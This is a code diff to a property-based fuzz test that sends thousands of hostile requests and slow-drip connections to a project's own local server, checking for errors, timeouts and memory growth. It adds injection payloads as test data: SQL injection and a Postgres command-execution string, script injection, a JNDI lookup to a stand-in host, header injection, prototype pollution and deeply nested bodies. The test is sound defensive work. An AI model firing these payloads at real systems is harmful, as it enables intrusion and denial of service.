@@ -1,3 +1,4 @@
+import { connect } from 'node:net'
 import fc from 'fast-check'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { startProcess, TestClient, type TestProcess } from './platform/testing-process.ts'
@@ -5,6 +6,10 @@ import { testSchema } from './platform/testing-database.ts'
 
 const REQUESTS = 10_000
 const CALLERS = 8
+const ANSWER_MS_MAX = 5_000
+/** A process that has answered this many has taken what memory it works with; from then on it may not take more. */
+const WARM_REQUESTS = 4_000
+const GROWTH_BYTES_MAX = 150 * 1024 * 1024
 type Schema = {
   readonly [key: string]: unknown
   readonly properties?: Record<string, Schema>
@@ -59,6 +64,14 @@ const evil: fc.Arbitrary<unknown> = fc.oneof(
     '__proto__',
     'constructor',
     "'; drop table events; --",
+    "' or '1'='1",
+    '" union select * from vault --',
+    "$$; copy events to program 'id'; $$",
+    '<script>alert(1)</script>',
+    '{{7*7}}',
+    '${jndi:ldap://evil.test/x}',
+    '\r\nset-cookie: callboard_session=x',
+    '(a+)+$',
     '../../etc/passwd',
     '🦜'.repeat(40),
     'x'.repeat(3000),
@@ -156,6 +169,24 @@ const lines = fc
   )
   .map((all) => all.join('\n'))
 
+/** The first member of an object, written twice with different values: readers that take the first and those that take the last must not differ here. */
+const doubled = (text: string): string => text.replace(/^\{("(?:[^"\\]|\\.)*":)/, '{$1"first",$1')
+/** The same body as bytes that say something else. */
+const manglers: readonly ((text: string) => Uint8Array)[] = [
+  (text) => Buffer.from(text, 'latin1'),
+  (text) => Buffer.from(text, 'utf16le'),
+  (text) => Buffer.from(text).subarray(0, text.length / 2),
+  (text) => Buffer.concat([Buffer.from(text), Buffer.from([0xff, 0xc0, 0x80])]),
+  (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
+  (text) => Buffer.from(doubled(text)),
+  (text) => Buffer.from(text.replace('{', '{"__proto__":{"owner":true},"constructor":{"prototype":{"owner":true}},')),
+  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, ':1e999')),
+  (text) => Buffer.from(text.replaceAll(/:(-?\d+|true|false|null)/g, `:${'9'.repeat(4000)}`)),
+  (text) => Buffer.from(text.replaceAll(/:"[^"]*"/g, `:${'['.repeat(3000)}${']'.repeat(3000)}`)),
+  (text) => Buffer.from(`${'{"a":'.repeat(20_000)}${text}${'}'.repeat(20_000)}`),
+  (text) => Buffer.from(`${'['.repeat(200_000)}${text}`),
+  (text) => Buffer.from(text.replaceAll('"', '\\u0000"')),
+]
 const request = () =>
   fc.constantFrom(...operations).chain(({ method, path, parameters, body }) =>
     fc.record({
@@ -164,35 +195,73 @@ const request = () =>
       values: fc.tuple(...parameters.map(({ schema }) => valueFor(schema))),
       names: fc.constant(parameters),
       body: body === undefined ? fc.constant(undefined) : body === 'lines' ? fc.oneof(lines, fc.uint8Array({ maxLength: 100 })) : valueFor(body),
+      mangle: fc.option(fc.constantFrom(...manglers), { nil: undefined, freq: 1 }).chain((mangle) => fc.constantFrom(mangle, undefined, undefined)),
       after: fc.option(fc.constantFrom('', 'x', '0000000000000000001', '9'.repeat(19)), { nil: undefined, freq: 20 }),
     }),
   )
 type Request = ReturnType<typeof request> extends fc.Arbitrary<infer R> ? R : never
 const escaped = (value: unknown): string => encodeURIComponent((typeof value === 'string' ? value : (JSON.stringify(value) ?? '')).toWellFormed())
-async function statusOf({ method, path, values, names, body, after }: Request): Promise<{ status: number; text: string }> {
+/** What is mangled is sent as JSON where JSON is taken. */
+function bodyOf({ body, mangle }: Request): { readonly body: unknown; readonly headers: Readonly<Record<string, string>> } {
+  if (!mangle || body === undefined || body instanceof Uint8Array) return { body, headers: {} }
+  return typeof body === 'string'
+    ? { body: mangle(body), headers: {} }
+    : { body: mangle(JSON.stringify(body)), headers: { 'content-type': 'application/json' } }
+}
+async function statusOf(one: Request): Promise<{ status: number; text: string; ms: number }> {
+  const { method, path, values, names, after } = one
+  const began = performance.now()
+  const { body, headers } = bodyOf(one)
   const given = names.map(({ name, in: where }, i) => ({ name, where, value: escaped(values[i]) }))
   const address = given.filter(({ where }) => where === 'path').reduce((whole, { name, value }) => whole.replace(`{${name}}`, value || '-'), path)
   const query = given
     .filter(({ where }) => where === 'query')
     .map(({ name, value }) => `${name}=${value}`)
     .join('&')
-  const response = await client.raw(method, `${address}?${query}`, body, { 'x-after-position': after ?? '' })
-  return { status: response.status, text: await response.text() }
+  const response = await client.raw(method, `${address}?${query}`, body, { 'x-after-position': after ?? '', ...headers })
+  return { status: response.status, text: await response.text(), ms: performance.now() - began }
 }
 
-test('ten thousand hostile requests to every call that there is: never a 5xx', async () => {
+async function memory(): Promise<number> {
+  const figures = await (await client.raw('GET', '/metrics')).text()
+  return Number(/^process_resident_memory_bytes (\S+)$/m.exec(figures)?.[1])
+}
+/** Never ends its body, or takes its time: a byte now and then. Resolves with the first line of what it is answered, or with how it was cut off. */
+function slowly(path: string, type: string): Promise<string> {
+  const { port } = new URL(server.url)
+  const socket = connect(Number(port), '127.0.0.1')
+  socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: 1000\r\n\r\n`)
+  const drip = setInterval(() => socket.write('{'), 200)
+  return new Promise<string>((resolve) => {
+    socket.once('data', (data: Buffer) => resolve(data.toString().split('\r\n')[0] ?? ''))
+    socket.on('error', (error) => resolve(error.message))
+    socket.once('close', () => resolve('closed'))
+  }).finally(() => {
+    clearInterval(drip)
+    socket.destroy()
+  })
+}
+
+test('ten thousand hostile requests to every call that there is, among bodies that never end: never a 5xx, no answer later than 5 s, no growth of memory', async () => {
   const statuses: Record<number, number> = {}
   const failures = new Map<string, unknown>()
   const all = fc.sample(request(), REQUESTS)
+  let warm = 0
+  const slow = Array.from({ length: 40 }, (_, i) => slowly(i % 2 === 0 ? '/login' : '/ingest/v1/observations', i % 2 === 0 ? 'application/json' : 'text/plain'))
   await Promise.all(
     Array.from({ length: CALLERS }, async () => {
       for (let one = all.pop(); one; one = all.pop()) {
-        const { status, text } = await statusOf(one)
+        const { status, text, ms } = await statusOf(one)
         statuses[status] = (statuses[status] ?? 0) + 1
-        if (status >= 500) failures.set(`${one.method} ${one.path}`, { text, values: one.values, body: one.body })
+        if (status >= 500 || ms > ANSWER_MS_MAX) failures.set(`${one.method} ${one.path}`, { status, text, ms, values: one.values, body: one.body })
+        if (all.length === REQUESTS - WARM_REQUESTS) warm = await memory()
       }
     }),
   )
   expect([...failures], server.output().slice(0, 6000)).toEqual([])
   expect(statuses[200], JSON.stringify(statuses)).toBeGreaterThan(REQUESTS / 20)
+  expect((await memory()) - warm, `${warm} bytes after ${WARM_REQUESTS} requests`).toBeLessThan(GROWTH_BYTES_MAX)
+  // Refused at once (nobody is logged in there), or cut off when the time for a request is over.
+  for (const answer of await Promise.all(slow)) expect(answer).toMatch(/^HTTP\/1\.1 4\d\d |closed|ECONNRESET|EPIPE/)
+  expect(await client.call('GET', '/getLocalStudios')).toContainEqual(expect.objectContaining({ studio: 'north' }))
 }, 300_000)
